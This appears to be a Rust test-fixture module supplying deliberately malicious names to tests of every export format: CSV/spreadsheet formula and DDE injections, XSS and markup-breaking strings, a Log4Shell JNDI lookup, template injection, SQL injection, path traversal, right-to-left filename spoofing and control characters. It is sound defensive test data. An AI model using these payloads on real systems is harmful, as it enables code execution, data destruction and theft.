//! Names that break files: formulas, markup, marks that turn the reading direction, scripts, invisible and very long text.
//!
//! They are data for tests of every format; nothing in here knows a format.

// Each test uses a part of it.
#![allow(dead_code)]

use footprint::model::{Atlas, Site, Table, Tables, load::load};

const FORMULAS: [&str; 9] = [
    "=1+1",
    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
    "=cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "+1",
    "'=1+1",
    "＝1＋1",
    "\u{feff}=1",
];

const MARKUP: [&str; 15] = [
    "]]>",
    "<![CDATA[x]]>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--",
    "-->",
    "<b>&amp;</b> & <i>",
    "<r><t>a & b_x0041_</t></r>",
    "<?xml version=\"1.0\"?>",
    "\"><img src=x onerror=alert(1)>",
    "&#0;&#x1;&nbsp;&unknown;",
    "javascript:alert(1)",
    "</svg></title></name>",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}$[description]",
];

const WRITING: [&str; 14] = [
    "file\u{202e}gpj.exe",
    "\u{2066}isolated\u{2069}",
    "\u{2067}isolated and never closed",
    "ميناء العقبة",
    "נמל חיפה",
    "深圳港・東京港",
    "मुंबई बंदरगाह",
    "ท่าเรือแหลมฉบัง",
    "👩\u{200d}🚀 👨\u{200d}👩\u{200d}👧 🏴\u{200d}☠\u{fe0f} 🇳🇱",
    "A\u{30a}rhus e\u{301}te\u{301} Z\u{351}\u{36b}\u{343}\u{36a}algo",
    "\u{301}lone mark",
    "\u{200b}zero\u{200b}width\u{feff}",
    "line\u{2028}paragraph\u{2029}end",
    "no\u{fffe}char\u{ffff}acter\u{1fffe}",
];

const WORDS: [&str; 19] = [
    "She said \"no\", and \"\"no\"\"",
    "one, two; three|four",
    "_x0041_ and _x000D_x0041_",
    "%s%n%x%d",
    "../../etc/passwd",
    "C:\\Windows\\CON",
    "'; DROP TABLE sites; --",
    "\\uD800\\u0000 \u{d7ff}\u{e000}\u{10fffd}",
    "ends in a backslash\\",
    "#REF!",
    "0123",
    "1e5",
    "TRUE",
    "NaN",
    "null",
    "2011-12-12",
    "two  spaces\u{a0}\u{3000}and others",
    "/",
    "x",
];

/// What the loader of the tables refuses: control characters, and spaces at the ends.
const REFUSED: [&str; 12] = [
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "a\tb",
    "a\rb",
    "a\nb",
    "a\r\nb\r\n",
    "\u{1}\u{8}\u{b}\u{c}\u{1b}[31m\u{1f}",
    "\u{7f}\u{80}\u{85}\u{9f}",
    "   ",
    " both ends ",
];

/// Nasty names that the atlas can hold, more than thirty.
pub fn names() -> Vec<String> {
    let mut names: Vec<String> =
        [FORMULAS.as_slice(), &MARKUP, &WRITING, &WORDS].concat().into_iter().map(str::to_owned).collect();
    // Four kilobytes of words, and one word that nothing can break.
    names.push(format!("{}end", "a long name, ".repeat(315)));
    names.push("Llanfairpwllgwyngyll".repeat(20));
    names
}

/// Nasty names that the loader of the tables refuses; the character NUL, which many readers end at, is in none.
pub fn refused() -> Vec<String> {
    REFUSED.map(str::to_owned).to_vec()
}

/// The atlas with the nasty names, which are also the notes, for its first places.
pub fn atlas() -> Atlas {
    let tables = Tables::embedded();
    let sites = renamed(tables.sites.text, &names());
    load(&Tables { sites: Table { name: "sites.csv", text: &sites }, ..tables })
        .unwrap_or_else(|problems| panic!("{problems}"))
}

/// The first places of the atlas under all nasty names, those that the loader refuses included, which are also the notes.
pub fn sites() -> Vec<Site> {
    let names = names().into_iter().chain(refused());
    let mut sites = Atlas::embedded().unwrap().sites().to_vec();
    let count = sites.iter_mut().zip(names).map(|(site, name)| rename(site, name)).count();
    sites.truncate(count);
    sites
}

fn rename(site: &mut Site, name: String) {
    site.evidence.notes = Some(name.clone());
    site.name = name;
}

/// The table of sites with these names for the first in the order of the atlas.
fn renamed(table: &str, names: &[String]) -> String {
    let atlas = Atlas::embedded().unwrap();
    let name_of = |id: &str| names.get(atlas.index_of(&id.into()).unwrap());
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let header = reader.headers().unwrap().clone();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    for row in reader.records() {
        let row = row.unwrap();
        let nasty = name_of(&row[0]);
        let cells = header.iter().zip(&row).map(|(column, cell)| match nasty {
            Some(name) if ["name", "notes"].contains(&column) => name,
            _ => cell,
        });
        writer.write_record(cells).unwrap();
    }
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}
